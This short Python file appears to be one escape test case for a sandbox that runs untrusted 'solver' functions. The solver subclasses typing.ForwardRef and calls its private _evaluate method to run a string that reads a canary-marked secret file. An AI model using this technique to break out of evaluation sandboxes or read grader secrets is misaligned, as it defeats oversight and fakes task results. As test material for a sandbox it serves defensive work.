# z08_forwardref_super [escape]: super()._evaluate reads a private method of a library class
import typing

Ref = type(typing.get_args(typing.List["x"])[0])


class Open:
    def __init_subclass__(cls, **options):
        pass


class F(Open, Ref):
    def _evaluate(self, *args, **options):
        return super()._evaluate(*args, **options)


def solver(a, b):
    f = F("__import__('builtins').open('@CANARY@/secret.txt').read()")
    for options in (dict(recursive_guard=frozenset()), dict(type_params=(), recursive_guard=frozenset())):
        try:
            return f._evaluate({}, {}, **options)
        except TypeError as e:
            error = str(e)
    return error
